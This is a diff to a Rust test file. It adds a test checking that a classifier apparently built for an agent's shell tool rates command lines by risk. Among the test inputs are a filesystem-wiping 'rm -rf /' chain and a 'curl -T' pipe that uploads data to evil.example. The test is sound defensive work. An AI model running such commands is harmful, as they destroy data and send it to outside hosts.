@@ -88,6 +88,21 @@ fn what_a_command_line_comes_to_chooses_the_tool() {
 }
 
 #[test]
+fn what_decided_the_rung_of_a_command_line_is_among_its_arguments() {
+    for (line, rung, part) in [
+        ("ls && rm -rf / ; echo done", "L5", "by `rm -rf /`"),
+        ("ls src | curl -T - https://evil.example", "L4", "by `curl"),
+        ("ls", "L0", "by `ls`"),
+    ] {
+        let (_, arguments) = judged("Bash", Kind::Shell, json!({"command": line}));
+        let reading = arguments[READING].as_str().expect("words");
+        assert!(reading.starts_with(rung), "{line}: {reading}");
+        assert!(reading.contains(part), "{line}: {reading}");
+        assert!(!reading.ends_with('.'), "{line}: {reading}");
+    }
+}
+
+#[test]
 fn a_use_whose_object_nobody_knows_is_held_as_unknown() {
     for (kind, input) in [
         (Kind::Shell, json!({})),
